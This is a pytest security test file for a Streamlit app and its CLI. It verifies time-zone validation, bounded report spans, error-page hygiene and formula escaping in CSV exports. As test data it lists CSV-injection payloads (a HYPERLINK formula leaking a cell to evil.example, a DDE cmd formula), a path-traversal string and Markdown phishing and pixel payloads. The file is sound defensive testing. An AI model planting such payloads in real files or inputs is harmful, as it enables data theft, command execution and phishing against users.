"""What a visitor can ask a hosted instance to show stays cheap, inert and in one sentence
(issue #26): time zones only from the IANA list, nothing from the URL rendered as Markdown, a
report span of at most 50 years, a period without data said so, spreadsheet formulas in titles
kept as text in every CSV, and no traceback or server path on any page. Real parts: the app
through AppTest, the CLI as a subprocess, Streamlit's own config loader, real SQLite stores."""

from __future__ import annotations

import csv
import subprocess
import sys
import time
from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

from casestudy.model import PullRequest
from casestudy.options import TZ, OptionError, Options
from casestudy.sources.files import import_tables
from casestudy.store import RepoInfo, Store
from tests.conftest import ROOT
from tests.test_cli import run

FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1,"click")', "=cmd|' /C calc'!A0",
            "+SUM(1,2)", "-2+3", "@SUM(A1:A2)", "\tTAB=1", "\r=1"]


def app(params: dict | None = None) -> AppTest:
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=180)
    for k, v in (params or {}).items():
        at.query_params[k] = v
    return at


def _texts(at: AppTest) -> list[str]:
    """Every text the page and sidebar show as Markdown (alerts, markdown, captions)."""
    out = []
    for kind in ("error", "warning", "info", "success", "markdown", "caption"):
        out += [e.value for e in getattr(at, kind)]
    return out


# -- finding 10: time zones from the IANA list only; nothing from the URL is Markdown ---------

def test_time_zones_come_from_the_iana_list_only():
    for bad in ("Europe", "../../../../etc/passwd", "localtime", "", "Europe/", None, 3):
        with pytest.raises(OptionError, match="must be an IANA time zone name"):
            Options("o/r", tz=bad)
    for good in ("UTC", "Europe/Berlin", "America/Argentina/Buenos_Aires"):
        assert Options("o/r", tz=good).tz == good
    long = "x" * 5000
    with pytest.raises(OptionError) as err:
        TZ.parse(long)
    assert len(str(err.value)) < 200  # a long value is quoted short


def test_cli_tz_that_is_a_folder_is_one_sentence(demo_db, tmp_path):
    r = run("report", "demo/atlas", "--db", str(demo_db), "--tz", "Europe", "--format", "md",
            "--out", str(tmp_path / "r.md"))
    assert r.returncode == 2 and "Traceback" not in r.stderr
    assert r.stderr == ("casestudy: error: --tz must be an IANA time zone name, e.g. "
                        "Europe/Berlin, not 'Europe'\n")


def test_a_tz_that_is_a_folder_falls_back_with_a_warning(app_env):
    at = app({"tz": "Europe"}).run()
    assert not at.exception
    assert at.title[0].value == "demo/atlas"
    assert any("time zone" in w.value and "using UTC" in w.value for w in at.sidebar.warning)
    assert at.sidebar.text_input(key="w_tz").value == "UTC"


@pytest.mark.parametrize("payload", [
    "**Your session expired.** [Sign in again](https://evil.example/login)",
    "![t](https://evil.example/pixel.png)",
    "<img src=https://evil.example/pixel.png>",
])
def test_the_url_never_renders_as_markdown(app_env, payload):
    at = app({"tz": payload}).run()
    assert not at.exception
    shown = _texts(at)
    assert any("time zone" in t for t in shown)  # said, as plain text:
    for text in shown:
        assert "](https://evil.example" not in text and "**Your" not in text
        assert "<img" not in text


# -- findings 6 and 17: a report span is bounded; a period without data says so ---------------

def test_cli_refuses_a_span_longer_than_50_years(demo_db, tmp_path):
    out = tmp_path / "r.md"
    t0 = time.perf_counter()
    r = run("report", "demo/atlas", "--db", str(demo_db), "--from", "1900-01", "--to",
            "2026-10", "--format", "md", "--out", str(out))
    assert r.returncode == 2 and not out.exists()
    assert r.stderr == ("casestudy: error: the period from 1900-01 to 2026-10 is longer than "
                        "50 years: choose a later first period or an earlier last one\n")
    assert time.perf_counter() - t0 < 60


def test_cli_refuses_thousands_of_years_quickly(demo_db, tmp_path):
    t0 = time.perf_counter()
    r = run("report", "demo/atlas", "--db", str(demo_db), "--from", "0001-01", "--to",
            "9999-12", "--format", "json", "--out", str(tmp_path / "r.json"))
    assert r.returncode == 2 and "longer than 50 years" in r.stderr
    assert not (tmp_path / "r.json").exists()
    assert time.perf_counter() - t0 < 60  # was 88 s and 5.2 GB


def test_cli_says_when_the_period_holds_no_data(demo_db, tmp_path):
    out = tmp_path / "r.md"
    r = run("report", "demo/atlas", "--db", str(demo_db), "--from", "1990-01", "--to",
            "1990-12", "--format", "md", "--out", str(out))
    assert r.returncode == 2 and not out.exists()
    assert r.stderr.startswith("casestudy: error: demo/atlas has no data from 1990-01 to "
                               "1990-12: its data runs from ")
    assert r.stderr.count("\n") == 1


@pytest.fixture
def far_apart(tmp_path, monkeypatch) -> Path:
    """A store holding PRs 60 years apart (as data imported before the range check could)."""
    path = tmp_path / "far.sqlite"
    s = Store(path)
    s.upsert_repo(RepoInfo("o/far", "import"))
    prs = [PullRequest("o/far", i + 1, title=f"pr {i}", created_at=t, merged_at=t + 3600)
           for i, t in enumerate([40_000_000 + k * 86400 for k in range(30)] +
                                 [1_900_000_000 + k * 86400 for k in range(30)])]
    s.write_batch("o/far", prs)
    monkeypatch.setenv("CASESTUDY_DB", str(path))
    return path


def test_the_app_refuses_a_span_longer_than_50_years(far_apart):
    t0 = time.perf_counter()
    at = app({"repo": "o/far", "start": "1971-04", "end": "2030-03"}).run()
    assert not at.exception
    assert any("is longer than 50 years" in e.value for e in at.error)
    assert time.perf_counter() - t0 < 60


# -- finding 9: spreadsheet formulas stay text in every CSV -----------------------------------

@pytest.fixture
def formula_db(tmp_path) -> Path:
    path = tmp_path / "formula.sqlite"
    s = Store(path)
    s.upsert_repo(RepoInfo("evil/sheet", "import"))
    t0 = 1_700_000_000
    s.write_batch("evil/sheet", [
        PullRequest("evil/sheet", i + 1, title=FORMULAS[i % len(FORMULAS)], author="=me",
                    created_at=t0 + i * 3600, first_commit_at=t0 + i * 3600 - 60,
                    merged_at=t0 + i * 3600 + 7200 + i * 10,
                    url=f"https://github.com/evil/sheet/pull/{i + 1}")
        for i in range(120)])
    return path


def test_csv_export_keeps_formulas_as_text_and_import_restores_them(formula_db, tmp_path):
    out = tmp_path / "out"
    r = run("export", "evil/sheet", "--db", str(formula_db), "--out", str(out), "--format",
            "csv")
    assert r.returncode == 0, r.stderr
    with open(out / "pull_requests.csv", newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == 120
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert rows[0]["title"] == "'" + FORMULAS[0] and rows[0]["author"] == "'=me"
    # the import takes the apostrophe off: a round trip keeps the titles exactly
    copy = Store(tmp_path / "copy.sqlite")
    import_tables(copy, out)
    assert [p.title for p in copy.pull_requests("evil/sheet")] == \
        [p.title for p in Store(formula_db).pull_requests("evil/sheet")]


def test_drilldown_download_keeps_formulas_as_text(formula_db, monkeypatch):
    monkeypatch.setenv("CASESTUDY_DB", str(formula_db))
    at = app({"repo": "evil/sheet", "month": "2023-11", "stage": "cycle_time"}).run()
    at.switch_page("app_pages/pull_requests.py").run()
    assert not at.exception
    df = at.dataframe[0].value  # what the table's "Download as CSV" writes
    assert len(df) > 50
    for column in ("title", "author"):
        cells = df[column].tolist()
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
        assert all(c.startswith("'") for c in cells)


# -- findings 7 and 13: the server refuses large uploads and shows no tracebacks --------------

def test_streamlit_reads_the_upload_cap_and_hides_error_details():
    code = ("from streamlit import config; print(config.get_option('server.maxUploadSize'), "
            "config.get_option('client.showErrorDetails'))")
    r = subprocess.run([sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True,
                       timeout=120, check=True)
    assert r.stdout.split() == ["50", "none"]


def test_an_unexpected_error_shows_no_traceback_or_path():
    def page() -> None:
        raise RuntimeError("boom in /srv/casestudy/secret.py")

    at = AppTest.from_function(page).run()
    assert len(at.exception) == 1
    shown = at.exception[0]
    assert "/srv/" not in shown.message and "boom" not in shown.message
    assert shown.stack_trace == []
